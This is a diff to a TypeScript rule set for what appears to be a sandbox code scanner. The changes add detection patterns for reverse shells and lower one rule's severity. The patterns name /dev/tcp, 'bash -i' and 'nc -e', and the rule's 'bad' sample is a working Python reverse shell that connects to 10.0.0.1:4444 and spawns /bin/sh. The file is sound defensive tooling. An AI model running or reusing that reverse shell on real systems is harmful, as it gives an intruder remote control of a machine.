@@ -1,6 +1,8 @@
 import type { Rule } from '../rule.ts';
 
 const WHY = 'A sandbox has no network; a program that needs it will fail, or means to reach somebody.';
+/** A socket that is connected, or what is made of one. */
+const CONNECTION = /^socket\.(?:socket|create_connection)\(\)/;
 const REMEDY = 'Give the program its data as input.';
 
 export const NETWORK: readonly Rule[] = [
@@ -18,7 +20,12 @@ export const NETWORK: readonly Rule[] = [
       {
         text: /\/dev\/tcp\/|bash\s+-i\s*>&|\bnc(?:at)?\s+(?:-\S+\s+)*-e\s|import\s+socket\s*[,;].{0,200}(?:subprocess|pty|dup2)/,
       },
-      { together: [['py-connect', 'py-listen', 'py-socket'], ['py-stdio-redirect']] },
+      { call: ['os.dup2'], when: [{ arg: 0, is: { nameMatches: CONNECTION } }] },
+      {
+        call: ['subprocess.{Popen,call,run}'],
+        when: [{ arg: ['stdin', 'stdout', 'stderr'], is: { nameMatches: CONNECTION } }],
+      },
+      { together: [['py-connect'], ['py-stdio-redirect']] },
       { together: [['py-connect', 'py-listen'], ['py-pty']] },
       {
         together: [
@@ -26,6 +33,7 @@ export const NETWORK: readonly Rule[] = [
           ['js-shell-started', 'js-shell-streams'],
         ],
       },
+      { together: [['js-socket'], ['js-shell']] },
     ],
     bad: 'import socket, os, pty\ns = socket.socket()\ns.connect(("10.0.0.1", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
     good: 'import socket\nprint(socket.gethostname())',
@@ -227,7 +235,7 @@ export const NETWORK: readonly Rule[] = [
   {
     id: 'py-clear-text-protocol',
     languages: ['python'],
-    severity: 'high',
+    severity: 'medium',
     confidence: 'high',
     category: 'network',
     cwe: 319,
